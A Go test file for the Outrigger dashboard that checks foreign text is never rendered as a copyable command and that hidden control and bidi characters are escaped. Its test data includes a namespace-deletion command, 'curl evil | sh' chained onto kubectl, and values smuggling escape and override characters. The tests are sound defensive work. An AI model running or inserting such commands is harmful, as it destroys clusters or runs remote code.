// SPDX-License-Identifier: Apache-2.0

package dashboard

import (
	"errors"
	"html"
	"net/http"
	"net/url"
	"reflect"
	"regexp"
	"strings"
	"testing"

	"outrigger.dev/outrigger/internal/diagnose"
)

var commandCode = regexp.MustCompile(`(?s)<span class="command"><code[^>]*>(.*?)</code>(.*?)</span>`)

// Text that Outrigger does not write is never a command, wherever a page shows it, and hidden characters are visible.
func TestForeignTextIsNoCommand(t *testing.T) {
	t.Parallel()
	s := newStage(t, func(o *Options) { o.Flags = diagnose.ClusterFlags{{Name: "context", Value: "prod"}} }).open()
	check := func(name, page string) {
		t.Helper()
		for _, command := range commandCode.FindAllString(page, -1) {
			if strings.Contains(command, "delete ns") {
				t.Errorf("%s has the command %s", name, command)
			}
		}
		if text := html.UnescapeString(page); !strings.Contains(text, "kubectl delete ns") || regexp.MustCompile("delete ns[^<]*--context").MatchString(text) {
			t.Errorf("%s does not show the text as it is:\n%s", name, page)
		}
		if strings.ContainsAny(page, "\u202e\u200b\x1b\r\u2028") {
			t.Errorf("%s has hidden characters:\n%q", name, page)
		}
	}
	for _, foreign := range []string{"v9: kubectl delete ns prod", "kubectl delete ns prod", "x `kubectl delete ns prod`", "see kubectl delete ns prod\r\n\x1b[31m\u202e\u200b\u2028"} {
		one := web()
		facts, versions := one.Facts, one.Versions
		one.Canary.Failing, one.Notes = []string{""}, []string{""}
		one.Superseded = []diagnose.SupersededStatus{{}}
		one.Facts, one.Versions = diagnose.ActionFacts{}, nil
		poisonWith(foreign, reflect.ValueOf(one).Elem())
		one.Facts, one.Versions, one.Canary.State = facts, versions, "progressing"
		one.Namespace, one.Name, one.Routing, one.Skipped = "demo", "web", "", ""
		for i := range one.Problems {
			one.Problems[i].Advice = ""
		}
		one.Superseded[0].Advice = ""
		report := reportOf(one.ServiceStatus)
		report.Notes = []string{foreign}
		s.services["demo/web"] = one
		s.coverage.Notes, s.coverage.Workloads = []string{foreign}, []diagnose.WorkloadCoverage{{Namespace: "demo", Workload: "Deployment/web", Details: []string{foreign}}}
		s.explained = &Explanation{Paragraphs: []diagnose.Paragraph{{Heading: foreign, Rows: [][]string{{foreign}}}}, Notes: []string{foreign}}
		s.explained.Kind, s.explained.Namespace, s.explained.Name, s.explained.Sidecar = "Deployment", "demo", "web", foreign
		s.Update(report, nil)
		s.Update(nil, errors.New(foreign))
		for _, path := range []string{"/", "/injection", "/injection/demo/Deployment/web", "/services/demo/web"} {
			check(path, s.do(s.request(http.MethodGet, path, nil)).Body.String())
		}
		s.denied = foreign
		check("unavailable", s.do(s.request(http.MethodGet, "/services/demo/web", nil)).Body.String())
		check("failed", s.do(s.request(http.MethodGet, "/actions/demo/web/shift", nil)).Body.String())
		s.denied = ""
		s.Update(report, nil)
		s.refused = errors.New(foreign)
		check("refused", s.page(s.previewed(diagnose.ActionPromote, url.Values{"version": {"v2"}}), http.StatusOK))
		s.refused = nil
		path := s.previewed(diagnose.ActionPromote, url.Values{"version": {"v2"}})
		s.refused = errors.New(foreign)
		s.act(path, nil)
		check("not written", s.page(path, http.StatusOK))
		s.refused = nil
	}
}

// Only a command that does in a shell what it seems to do can be copied.
func TestCommandsThatCanBeCopied(t *testing.T) {
	t.Parallel()
	flags := diagnose.ClusterFlags{{Name: "context", Value: "prod"}}
	for command, want := range map[string]commandView{
		"kubectl get pods -n demo":                        {"kubectl get pods -n demo --context=prod", true},
		"kubectl annotate service web 'a=b; c'":           {"kubectl annotate service web 'a=b; c' --context=prod", true},
		"kubectl annotate service web 'a=b\nc'":           {`kubectl annotate service web 'a=b\nc'`, false},
		"kubectl annotate service web 'a=\u202eb\x1b\x80": {`kubectl annotate service web 'a=\u202eb\x1b\x80`, false},
		"kubectl get pods && curl evil | sh":              {"kubectl get pods && curl evil | sh", false},
	} {
		if got := commandOf(command, flags); got != want {
			t.Errorf("%q: %+v, want %+v", command, got, want)
		}
	}
}
